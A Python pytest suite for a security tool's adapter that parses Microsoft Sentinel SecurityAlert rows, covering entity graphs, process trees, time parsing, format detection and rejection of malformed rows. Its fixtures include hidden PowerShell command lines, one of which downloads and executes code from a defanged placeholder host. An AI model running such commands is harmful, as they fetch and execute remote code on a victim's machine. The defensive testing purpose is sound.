"""Microsoft Sentinel SecurityAlert adapter: the example file, auto-detection, hostile rows."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tierzero.ingest.adapters.sentinel import SentinelAdapter
from tierzero.ingest.alert import Alert, EntityKind, Severity
from tierzero.ingest.base import FLAG_TIME_ASSUMED_UTC, ParseContext, RecordRejected, process_id
from tierzero.ingest.quarantine import QuarantinedRecord
from tierzero.ingest.reader import read
from tierzero.ingest.registry import ADAPTERS

NOW = datetime(2026, 11, 17, tzinfo=UTC)
EXAMPLES = Path(__file__).resolve().parents[3] / "examples"
EXAMPLE = EXAMPLES / "sentinel_securityalert.jsonl"
ADAPTER = SentinelAdapter()


def _records() -> list[dict[str, Any]]:
    return [json.loads(line) for line in EXAMPLE.read_text().splitlines() if line.strip()]


def _parse(record: Any) -> Alert:
    raw = json.dumps(record) if isinstance(record, dict) else str(record)
    return ADAPTER.parse(record, ParseContext("test.jsonl", 1, NOW, raw))


def _reject(record: Any) -> str:
    with pytest.raises(RecordRejected) as caught:
        _parse(record)
    return caught.value.reason


def _alerts() -> list[Alert]:
    results = list(read([EXAMPLE], now=NOW))
    quarantined = [r for r in results if isinstance(r, QuarantinedRecord)]
    assert quarantined == []
    return [r for r in results if isinstance(r, Alert)]


def _with(base: dict[str, Any], **changes: Any) -> dict[str, Any]:
    out = dict(base)
    for key, value in changes.items():
        if value is _DROP:
            out.pop(key, None)
        else:
            out[key] = value
    return out


_DROP = object()


# ---------------------------------------------------------------- the example file


def test_every_example_row_becomes_an_alert_from_sentinel() -> None:
    alerts = _alerts()
    assert len(alerts) == 3
    assert {a.provenance.source for a in alerts} == {"sentinel"}
    assert [a.provenance.record_no for a in alerts] == [1, 2, 3]
    assert all(a.metadata.product.name == "Microsoft Sentinel" for a in alerts)


def test_phishing_click_row() -> None:
    alert = _alerts()[0]
    assert alert.source_alert_id == "5e0b9a1c-7d3f-4e2a-b6c8-0f1e2d3c4b5a"
    assert alert.title == "A potentially malicious URL click was detected"
    assert alert.time == datetime(2026, 11, 16, 8, 56, 47, 331000, tzinfo=UTC)
    assert alert.finding_info.first_seen_time == datetime(2026, 11, 16, 8, 55, 58, tzinfo=UTC)
    assert alert.severity_id is Severity.HIGH
    assert alert.techniques == ("T1566", "T1566.002")
    assert alert.tactics == ("Initial Access",)
    assert alert.finding_info.analytic.uid == "ThreatManagement"
    assert alert.values(EntityKind.USER) == ("alice.martin@northwind.example",)
    assert alert.values(EntityKind.EMAIL) == (
        "alice.martin@northwind.example",
        "invoices@northwlnd-billing.example",
    )
    assert alert.values(EntityKind.IP) == ("203.0.113.45",)
    assert alert.values(EntityKind.URL) == ("https://northwlnd-billing.example/inv/INV-88213.zip",)
    assert alert.values(EntityKind.DOMAIN) == ("northwlnd-billing.example",)
    assert alert.values(EntityKind.EMAIL_SUBJECT) == ("Overdue invoice INV-88213",)
    assert alert.src_endpoint is not None and alert.src_endpoint.ip == "203.0.113.45"
    assert alert.actor is not None
    assert alert.actor.uid == "3c9d2f4e-7a1b-4c8d-9e0f-a1b2c3d4e5f6"


def test_atypical_travel_row_carries_the_country() -> None:
    alert = _alerts()[1]
    assert alert.source_alert_id == "2f7c4a9e-1b3d-4c5e-8f6a-7b8c9d0e1f23"
    assert alert.title == "Atypical travel"
    assert alert.time == datetime(2026, 11, 16, 9, 40, 52, 118000, tzinfo=UTC)
    assert alert.severity_id is Severity.MEDIUM
    assert alert.techniques == ()  # this row's Techniques column is empty
    assert alert.tactics == ("Initial Access",)
    assert alert.finding_info.analytic.uid == "ImpossibleTravel"
    assert alert.src_endpoint is not None
    assert (alert.src_endpoint.ip, alert.src_endpoint.country) == ("198.51.100.23", "RO")
    assert alert.values(EntityKind.COUNTRY) == ("RO",)
    assert alert.values(EntityKind.USER) == ("alice.martin@northwind.example",)


def test_scheduled_rule_row_uses_the_analytic_rule_id() -> None:
    alert = _alerts()[2]
    assert alert.source_alert_id == "b3d5f7a9-2c4e-4a6b-8d0f-1a3c5e7b9d02"
    assert alert.severity_id is Severity.HIGH
    assert alert.techniques == ("T1621",)
    assert alert.tactics == ("Credential Access",)
    assert alert.finding_info.analytic.uid == "9a8b7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d"
    assert alert.detection_id == "sentinel:9a8b7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d"
    assert alert.finding_info.last_seen_time == datetime(2026, 11, 16, 9, 40, 5, tzinfo=UTC)
    assert alert.values(EntityKind.IP) == ("198.51.100.23",)


def test_raw_row_is_kept_verbatim() -> None:
    lines = [line for line in EXAMPLE.read_text().splitlines() if line.strip()]
    assert [a.raw_data for a in _alerts()] == lines


# ---------------------------------------------------------------- entity graph ($ref)


MDATP_ENTITIES = [
    {
        "$id": "2",
        "HostName": "LT-FIN-042",
        "DnsDomain": "northwind.example",
        "OSFamily": "Windows",
        "Type": "host",
    },
    {"$id": "3", "Name": "alice.martin", "NTDomain": "NORTHWIND", "Type": "account"},
    {
        "$id": "4",
        "ProcessId": "7312",
        "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgA",
        "ImageFile": {
            "$id": "5",
            "Directory": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            "Name": "powershell.exe",
            "FileHashes": [{"$ref": "9"}],
            "Type": "file",
        },
        "ParentProcess": {
            "$id": "6",
            "ProcessId": "6120",
            "CommandLine": "wscript.exe INV-88213.js",
            "ImageFile": {"$ref": "7"},
            "ParentProcess": {"$ref": "4"},  # a cycle back to the child
            "Type": "process",
        },
        "Account": {"$ref": "3"},
        "Host": {"$ref": "2"},
        "Type": "process",
    },
    {"$id": "7", "Directory": "C:\\Windows\\System32", "Name": "wscript.exe", "Type": "file"},
    {
        "$id": "8",
        "Name": "invsvc.exe",
        "FileHashes": [
            {
                "$id": "10",
                "Algorithm": "SHA256",
                "Value": "5f4dcc3b5aa765d61d8327deb882cf99e4c8b1f3a1d2e3f40516273849aabbcc",
                "Type": "filehash",
            }
        ],
        "Type": "file",
    },
    {
        "$id": "9",
        "Algorithm": "SHA1",
        "Value": "04c5d2b4da9a0f3fa8a45702d4256cee6ea8a2b5",
        "Type": "filehash",
    },
]


def _mdatp_row(entities: Any) -> dict[str, Any]:
    return _with(
        _records()[0],
        SystemAlertId="11111111-2222-4333-8444-555555555555",
        AlertName="Suspicious PowerShell command line",
        ProviderName="MDATP",
        Entities=entities if not isinstance(entities, list) else json.dumps(entities),
    )


def test_refs_are_resolved_into_process_tree_and_hashes() -> None:
    alert = _parse(_mdatp_row(MDATP_ENTITIES))
    assert alert.device is not None and alert.device.hostname == "LT-FIN-042"
    assert alert.actor is not None and alert.actor.name == "NORTHWIND\\alice.martin"
    process = alert.process
    assert process is not None
    assert (process.name, process.pid) == ("powershell.exe", 7312)
    assert process.user == "NORTHWIND\\alice.martin"
    assert process.file is not None
    assert process.file.sha1 == "04c5d2b4da9a0f3fa8a45702d4256cee6ea8a2b5"  # via $ref 9
    parent = process.parent_process
    assert parent is not None
    assert (parent.name, parent.pid) == ("wscript.exe", 6120)  # ImageFile via $ref 7
    assert parent.parent_process is None  # one level only: the cycle is not followed
    assert alert.values(EntityKind.PROCESS) == ("powershell.exe", "wscript.exe")
    assert "powershell.exe -nop -w hidden -enc SQBFAFgA" in alert.values(EntityKind.COMMAND_LINE)
    assert alert.values(EntityKind.HASH) == (
        "04c5d2b4da9a0f3fa8a45702d4256cee6ea8a2b5",
        "5f4dcc3b5aa765d61d8327deb882cf99e4c8b1f3a1d2e3f40516273849aabbcc",
    )
    assert "invsvc.exe" in alert.values(EntityKind.FILE)
    assert alert.values(EntityKind.HOST) == ("LT-FIN-042",)


def test_ref_cycles_and_dangling_refs_do_not_hang_or_crash() -> None:
    entities = [
        {"$id": "1", "$ref": "2", "Type": "process"},
        {"$id": "2", "$ref": "1", "Type": "process"},
        {
            "$id": "3",
            "ParentProcess": {"$ref": "3"},
            "ImageFile": {"$ref": "404"},
            "Type": "process",
            "ProcessId": "1",
        },
        {"$ref": "3"},
        {"$ref": ["not", "an", "id"]},
    ]
    alert = _parse(_mdatp_row(entities))
    assert alert.process is not None
    assert alert.process.pid == 1
    assert alert.process.parent_process is None


def test_entities_already_decoded_as_a_list_are_accepted() -> None:
    row = _mdatp_row(MDATP_ENTITIES)
    row["Entities"] = MDATP_ENTITIES
    assert _parse(row).values(EntityKind.HOST) == ("LT-FIN-042",)


def test_plain_comma_techniques_from_older_rows() -> None:
    row = _with(
        _records()[0],
        Techniques="T1078, T1110.003",
        SubTechniques=_DROP,
        Tactics="InitialAccess, CredentialAccess",
    )
    alert = _parse(row)
    assert alert.techniques == ("T1078", "T1110.003")
    assert alert.tactics == ("Credential Access", "Initial Access")


# ---------------------------------------------------------------- the detected process
#
# Composed after the documented shape: "Microsoft Sentinel entity types reference" (Process:
# ProcessId as a string, CommandLine, CreationTimeUtc, ImageFile, ParentProcess, Account, Host;
# File: Directory + Name + FileHashes; references as {"$ref": id}) as Defender for Endpoint
# alerts land in SecurityAlert: the parent listed first, ProcessId in hex, each entity written
# inline where first met and referenced after that.

LEAF_ENTITIES: list[dict[str, Any]] = [
    {
        "$id": "3",
        "ProcessId": "0x1008",
        "CommandLine": '"cmd.exe" /c powershell -nop -w hidden -c "IEX(iwr hxxp://x)"',
        "ElevationToken": "Default",
        "CreationTimeUtc": "2026-11-16T09:01:58.1234567Z",
        "ImageFile": {
            "$id": "4",
            "Directory": "C:\\Windows\\System32",
            "Name": "cmd.exe",
            "FileHashes": [
                {
                    "$id": "5",
                    "Algorithm": "SHA1",
                    "Value": "ded8fd7f36417f66eb6ada10e0c0d7c0022986e9",
                    "Type": "filehash",
                }
            ],
            "Type": "file",
        },
        "ParentProcess": {
            "$id": "6",
            "ProcessId": "0x11b8",
            "CommandLine": "C:\\Windows\\Explorer.EXE",
            "ImageFile": {
                "$id": "7",
                "Directory": "C:\\Windows",
                "Name": "explorer.exe",
                "Type": "file",
            },
            "Type": "process",
        },
        "Account": {
            "$id": "8",
            "Name": "alice.martin",
            "NTDomain": "NORTHWIND",
            "Sid": "S-1-5-21-1004336348-1177238915-682003330-1104",
            "Type": "account",
        },
        "Host": {
            "$id": "9",
            "HostName": "lt-fin-042",
            "DnsDomain": "northwind.example",
            "OSFamily": "Windows",
            "Type": "host",
        },
        "Type": "process",
    },
    {
        "$id": "10",
        "ProcessId": "0x1c90",
        "CommandLine": 'powershell  -nop -w hidden -c "IEX(iwr hxxp://x)"',
        "ImageFile": {
            "$id": "11",
            "Directory": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            "Name": "powershell.exe",
            "Type": "file",
        },
        "ParentProcess": {"$ref": "3"},
        "Account": {"$ref": "8"},
        "Host": {"$ref": "9"},
        "Type": "process",
    },
    {"$ref": "4"},
    {"$ref": "7"},
    {"$ref": "8"},
    {"$ref": "9"},
    {"$ref": "11"},
]


def test_the_detected_process_is_the_leaf_even_when_its_parent_is_listed_first() -> None:
    alert = _parse(_mdatp_row(LEAF_ENTITIES))
    process = alert.process
    assert process is not None
    assert (process.name, process.pid) == ("powershell.exe", 0x1C90)
    assert process.cmd_line == LEAF_ENTITIES[1]["CommandLine"]
    assert process.user == "NORTHWIND\\alice.martin"
    parent = process.parent_process
    assert parent is not None
    assert (parent.name, parent.pid) == ("cmd.exe", 0x1008)  # hex ProcessId read, not dropped
    assert parent.cmd_line == LEAF_ENTITIES[0]["CommandLine"]
    assert parent.file is not None
    assert parent.file.sha1 == "ded8fd7f36417f66eb6ada10e0c0d7c0022986e9"
    grandparent = parent.parent_process  # defined only inline, under cmd.exe
    assert grandparent is not None
    assert (grandparent.name, grandparent.pid) == ("explorer.exe", 0x11B8)
    assert grandparent.parent_process is None
    names = {o.value: o.name for o in alert.observables if o.kind is EntityKind.COMMAND_LINE}
    assert names[LEAF_ENTITIES[1]["CommandLine"]] == "process.cmd_line"
    assert names[LEAF_ENTITIES[0]["CommandLine"]] == "process.parent_process.cmd_line"
    assert alert.device is not None and alert.device.hostname == "lt-fin-042"  # via Host $ref


def test_image_files_carry_the_full_path_and_the_folder() -> None:
    process = _parse(_mdatp_row(LEAF_ENTITIES)).process
    assert process is not None and process.file is not None
    assert process.file.path == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    assert process.file.parent_folder == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"


def test_a_file_entity_that_is_no_image_is_the_alerts_file() -> None:
    dropped = {
        "$id": "20",
        "Directory": "C:\\Users\\alice.martin\\AppData\\Roaming\\Microsoft\\invsvc",
        "Name": "invsvc.exe",
        "Type": "file",
    }
    file = _parse(_mdatp_row([*LEAF_ENTITIES, dropped])).file
    assert file is not None
    assert file.path == ("C:\\Users\\alice.martin\\AppData\\Roaming\\Microsoft\\invsvc\\invsvc.exe")
    assert file.parent_folder == "C:\\Users\\alice.martin\\AppData\\Roaming\\Microsoft\\invsvc"
    only_images = _parse(_mdatp_row(LEAF_ENTITIES)).file  # then the detected process's image
    assert only_images is not None and only_images.name == "powershell.exe"


def test_among_several_leaves_the_one_with_known_ancestry_wins() -> None:
    lone = {"$id": "30", "ProcessId": "0x4", "CommandLine": "System", "Type": "process"}
    alert = _parse(_mdatp_row([lone, *LEAF_ENTITIES]))
    assert alert.process is not None and alert.process.name == "powershell.exe"
    assert "System" in alert.values(EntityKind.COMMAND_LINE)  # still an observable


def test_the_detected_process_names_the_device_over_the_first_host() -> None:
    other = {"$id": "40", "HostName": "dc-01", "Type": "host"}
    alert = _parse(_mdatp_row([other, *LEAF_ENTITIES]))
    assert alert.device is not None and alert.device.hostname == "lt-fin-042"
    assert set(alert.values(EntityKind.HOST)) == {"lt-fin-042", "dc-01"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("0x1008", 4104),
        ("0X1C90", 7312),
        (" 0x1c90 ", 7312),
        ("4104", 4104),
        (4104, 4104),
        ("0x", None),
        ("0x1g", None),
        ("-1", None),
        (-1, None),
        ("12abc", None),
        ("１２", None),  # full-width digits are no process id
        (True, None),
        (4.5, None),
        ("0x" + "f" * 17, None),
        ("9" * 25, None),
        (None, None),
    ],
)
def test_process_ids_in_decimal_or_hex(value: Any, expected: int | None) -> None:
    assert process_id(value) == expected


# ---------------------------------------------------------------- time and tactics


@pytest.mark.parametrize(
    "stamp",
    ["2026-11-16T08:56:47.331", "2026-11-16 08:56:47.331000", "2026-11-16T08:56:47.3310000"],
)
def test_zone_less_time_generated_is_read_as_utc_and_flagged(stamp: str) -> None:
    # Log Analytics datetimes are UTC (Azure Monitor Logs table reference, SecurityAlert);
    # CSV exports and pandas round-trips write them without the "Z".
    alert = _parse(_with(_records()[0], TimeGenerated=stamp, StartTime="2026-11-16 08:55:58"))
    assert alert.time == datetime(2026, 11, 16, 8, 56, 47, 331000, tzinfo=UTC)
    assert alert.finding_info.first_seen_time == datetime(2026, 11, 16, 8, 55, 58, tzinfo=UTC)
    assert alert.flags == (FLAG_TIME_ASSUMED_UTC,)
    assert alert.metadata.original_time == stamp


def test_times_with_a_zone_are_not_flagged() -> None:
    assert all(a.flags == () for a in _alerts())


@pytest.mark.parametrize(
    ("tactics", "expected"),
    [
        ("PreAttack", ()),
        ("Unknown", ()),
        ("InitialAccess, PreAttack", ("Initial Access",)),
        ("CommandAndControl", ("Command and Control",)),
        ("ImpairProcessControl, Exfiltration", ("Exfiltration",)),  # an ICS tactic: not here
    ],
)
def test_only_real_attack_tactics_are_kept(tactics: str, expected: tuple[str, ...]) -> None:
    alert = _parse(_with(_records()[0], Tactics=tactics))
    assert alert.tactics == expected
    assert all(a.tactic_uid for a in alert.finding_info.attacks if a.tactic_name)


# ---------------------------------------------------------------- auto-detection


FOREIGN: dict[str, dict[str, Any]] = {
    "ocsf": {
        "class_uid": 2004,
        "activity_id": 1,
        "severity_id": 4,
        "time": 1794820920000,
        "finding_info": {"uid": "f-1", "title": "x"},
        "metadata": {"product": {"name": "p"}},
    },
    "defender": {
        "@odata.type": "#microsoft.graph.security.alert",
        "id": "da1",
        "providerAlertId": "da1",
        "title": "x",
        "severity": "high",
        "serviceSource": "microsoftDefenderForEndpoint",
        "createdDateTime": "2026-11-16T09:03:18Z",
        "evidence": [],
    },
    "crowdstrike": {
        "metadata": {"eventType": "DetectionSummaryEvent", "offset": 1},
        "event": {"DetectId": "ldt:1:2", "ComputerName": "LT-FIN-042"},
    },
    "guardduty": {
        "SchemaVersion": "2.0",
        "AccountId": "111122223333",
        "Region": "eu-central-1",
        "Type": "Recon:EC2/PortProbeUnprotectedPort",
        "Id": "g1",
        "Severity": 2,
        "Resource": {"ResourceType": "Instance"},
        "Service": {"ServiceName": "guardduty"},
    },
    "okta": {
        "uuid": "u1",
        "published": "2026-11-16T09:40:05Z",
        "eventType": "user.session.start",
        "actor": {"alternateId": "alice.martin@northwind.example"},
        "outcome": {"result": "SUCCESS"},
        "severity": "INFO",
    },
    "elastic": {
        "@timestamp": "2026-11-16T09:02:10Z",
        "kibana.alert.rule.name": "x",
        "kibana.alert.uuid": "e1",
        "host": {"name": "LT-FIN-042"},
    },
    "wazuh": {
        "timestamp": "2026-11-16T10:15:20.000+0000",
        "rule": {"id": "60106", "level": 7},
        "agent": {"id": "003", "name": "SRV-FS-01"},
        "manager": {"name": "wazuh"},
        "id": "1763287520.12345",
        "decoder": {"name": "windows_eventchannel"},
    },
    "suricata": {
        "timestamp": "2026-11-16T09:04:00.000000+0000",
        "event_type": "alert",
        "src_ip": "10.20.4.42",
        "dest_ip": "198.51.100.77",
        "flow_id": 1,
        "alert": {"signature": "x", "signature_id": 1},
    },
}


@pytest.mark.parametrize("fmt", sorted(FOREIGN))
def test_does_not_match_other_formats(fmt: str) -> None:
    assert ADAPTER.matches(FOREIGN[fmt]) is False


def test_auto_detection_picks_only_sentinel_for_the_example_rows() -> None:
    for record in _records():
        assert [a.name for a in ADAPTERS.values() if a.matches(record)] == ["sentinel"]


def _example_records(path: Path) -> list[Any]:
    text = path.read_text(encoding="utf-8")
    try:
        document = json.loads(text)
    except ValueError:
        return [json.loads(line) for line in text.splitlines() if line.strip()]
    if isinstance(document, dict):
        for key in ("value", "Findings", "resources", "events", "alerts"):
            if isinstance(document.get(key), list):
                return list(document[key])
        return [document]
    return list(document)


def test_does_not_match_any_other_example_file() -> None:
    others = [
        p
        for p in sorted(EXAMPLES.glob("*.json*"))
        if p.name not in (EXAMPLE.name, "bad_records.jsonl")
    ]
    for path in others:
        for record in _example_records(path):
            assert not (isinstance(record, dict) and ADAPTER.matches(record)), path.name


# ---------------------------------------------------------------- malformed rows


def test_empty_object_is_rejected() -> None:
    assert _reject({}) == "missing required field 'SystemAlertId'"


@pytest.mark.parametrize("field", ["SystemAlertId", "AlertName", "TimeGenerated"])
def test_missing_required_field_is_named(field: str) -> None:
    assert _reject(_with(_records()[0], **{field: _DROP})) == f"missing required field '{field}'"


def test_list_where_text_is_expected() -> None:
    reason = _reject(_with(_records()[0], AlertName=["a", "b"]))
    assert reason == "field 'AlertName' should be text, got list"


def test_malformed_entities_string_is_rejected() -> None:
    reason = _reject(_with(_records()[0], Entities='[{"$id":"2","HostName":"LT-FIN-042"'))
    assert reason.startswith("field 'Entities' is not valid JSON")


def test_entities_of_the_wrong_shape_are_rejected() -> None:
    assert _reject(_with(_records()[0], Entities='{"HostName": "x"}')) == (
        "field 'Entities' should hold a JSON array, got dict"
    )
    assert _reject(_with(_records()[0], Entities='["LT-FIN-042"]')) == (
        "Entities item 1 should be an object, got str"
    )
    reason = _reject(_with(_records()[0], Entities='[{"Type":"host","HostName":["a"]}]'))
    assert reason == "field 'Entities.host.HostName' should be text, got list"


def test_deeply_nested_entities_are_rejected() -> None:
    reason = _reject(_with(_records()[0], Entities="[" * 100_000 + "]" * 100_000))
    assert "Entities" in reason


def test_malformed_extended_properties_are_rejected() -> None:
    reason = _reject(_with(_records()[0], ExtendedProperties="{not json"))
    assert reason.startswith("field 'ExtendedProperties' is not valid JSON")


def test_other_log_analytics_tables_are_rejected() -> None:
    assert _reject(_with(_records()[0], Type="SigninLogs")) == (
        "row of table 'SigninLogs' is not a SecurityAlert"
    )


def test_incident_rows_are_rejected() -> None:
    reason = _reject(_with(_records()[0], IsIncident=True))
    assert reason == "row is an incident (a grouping of alerts), not an alert"


def test_garbage_time_is_rejected() -> None:
    assert _reject(_with(_records()[0], TimeGenerated="2026-11-16T25:00:00")) == (
        "field 'TimeGenerated' is not a valid time: '2026-11-16T25:00:00'"
    )
    assert _reject(_with(_records()[0], StartTime="yesterday")) == (
        "field 'StartTime' is not a valid time: 'yesterday'"
    )


def test_reader_quarantines_a_row_with_malformed_entities(tmp_path: Path) -> None:
    bad = _with(_records()[1], Entities="[{oops")
    path = tmp_path / "alerts.jsonl"
    path.write_text(json.dumps(_records()[0]) + "\n" + json.dumps(bad) + "\n")
    results = list(read([path], now=NOW))
    assert isinstance(results[0], Alert)
    assert isinstance(results[1], QuarantinedRecord)
    assert results[1].source == "sentinel"
    assert results[1].record_no == 2
    assert results[1].reason.startswith("field 'Entities' is not valid JSON")


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)
_FIELDS = [
    "SystemAlertId",
    "AlertName",
    "AlertSeverity",
    "TimeGenerated",
    "StartTime",
    "EndTime",
    "Tactics",
    "Techniques",
    "SubTechniques",
    "Entities",
    "ExtendedProperties",
    "Type",
    "AlertType",
    "Description",
    "AlertLink",
    "IsIncident",
]


@settings(max_examples=300, deadline=None)
@given(field=st.sampled_from(_FIELDS), value=_JSON, as_json_string=st.booleans())
def test_hostile_values_never_raise_anything_but_rejection(
    field: str, value: Any, as_json_string: bool
) -> None:
    row = _with(_records()[0], **{field: json.dumps(value) if as_json_string else value})
    try:
        _parse(row)
    except RecordRejected as exc:
        assert exc.reason


@settings(max_examples=200, deadline=None)
@given(
    entities=st.lists(
        st.dictionaries(
            st.sampled_from(
                [
                    "$id",
                    "$ref",
                    "Type",
                    "HostName",
                    "Name",
                    "UPNSuffix",
                    "NTDomain",
                    "Address",
                    "Location",
                    "Url",
                    "ImageFile",
                    "ParentProcess",
                    "FileHashes",
                    "Account",
                    "ProcessId",
                    "CommandLine",
                    "Algorithm",
                    "Value",
                    "Urls",
                ]
            ),
            _JSON | st.sampled_from(["1", "2", "3", "host", "process", "file", "ip", "account"]),
            max_size=6,
        ),
        max_size=5,
    )
)
def test_hostile_entity_graphs_never_raise_anything_but_rejection(entities: list[Any]) -> None:
    try:
        _parse(_mdatp_row(entities))
    except RecordRejected as exc:
        assert exc.reason
